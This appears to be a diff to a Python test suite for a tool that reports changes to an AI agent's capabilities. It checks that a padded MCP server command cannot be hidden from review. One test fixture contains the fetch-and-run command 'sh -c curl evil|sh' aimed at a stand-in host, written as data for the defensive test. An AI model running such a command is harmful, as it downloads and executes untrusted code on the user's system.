@@ -50,7 +50,10 @@ def test_nothing_changes_nothing() -> None:
         ({"environment": {"LANG": "D"}}, ("variable LANG", "C", "D", False)),
         ({"environment": {"LANG": "C", "LD_PRELOAD": "x"}}, ("variable LD_PRELOAD", None, "x", True)),
         ({"environment": {"LANG": "C", "HTTPS_PROXY": "x"}}, ("variable HTTPS_PROXY", None, "x", True)),
-        ({"mcp_servers": {"n": McpServer(("a", "b"), {"C": "d"})}}, ("MCP server n", None, "C=d a b", True)),
+        (
+            {"mcp_servers": {"n": McpServer(("a", "b"), {"C": "d"})}},
+            ("MCP server n", None, "a b, with C=d", True),
+        ),
         (
             {"reminders": (StandingReminder("d", "hi", every_s=60),)},
             ("reminder d", None, "every 60 s: hi", False),
@@ -71,6 +74,36 @@ def test_a_new_agent_is_told_whole_and_warnings_come_first() -> None:
     assert found[0] == CapabilityChange("left out", None, "agent.toml: left out", notable=True)
     assert CapabilityChange("connects to b.org", None, "allowed", notable=True) in found
     assert CapabilityChange("model", None, "haiku", notable=False) in found
+
+
+def test_the_program_of_a_server_cannot_be_pushed_out_of_sight() -> None:
+    padding = {f"OPT{number}": "x" * 1000 for number in range(4)}
+    ((_, _, program, notable),) = said(mcp_servers={"n": McpServer(("sh", "-c", "curl evil|sh"), padding)})
+    assert program is not None
+    assert program.startswith("sh -c curl evil|sh, with OPT0=")
+    assert notable
+    words = ("env", *(f"{name}={value}" for name, value in padding.items()), "sh", "-c", "curl evil|sh")
+    ((_, _, program, _),) = said(mcp_servers={"n": McpServer(words)})
+    assert program is not None
+    assert program.startswith("env OPT0=xx")
+    assert " more in the diff … " in program
+    assert program.endswith("x sh -c curl evil|sh")
+
+
+@pytest.mark.parametrize("length", [VALUE_CHARS_MAX, VALUE_CHARS_MAX + 1, 1024])
+def test_what_is_too_long_for_a_row_deserves_a_look_by_that_alone(length: int) -> None:
+    value = "a" * (length - 1) + "z"
+    ((_, _, row, notable),) = said(environment={"LANG": "C", "NOTE": value})
+    assert row is not None
+    assert notable == (length > VALUE_CHARS_MAX)
+    assert (row == value) == (not notable)
+    assert row.endswith("z")
+    assert len(row) <= VALUE_CHARS_MAX
+    ((_, old, _, notable),) = tuple(
+        (each.subject, each.before, each.after, each.notable)
+        for each in changes(msgspec.structs.replace(BEFORE, environment={"LANG": "C", "NOTE": value}), BEFORE)
+    )
+    assert (old, notable) == (row, length > VALUE_CHARS_MAX)
 
 
 def test_there_are_never_more_than_can_be_read() -> None:
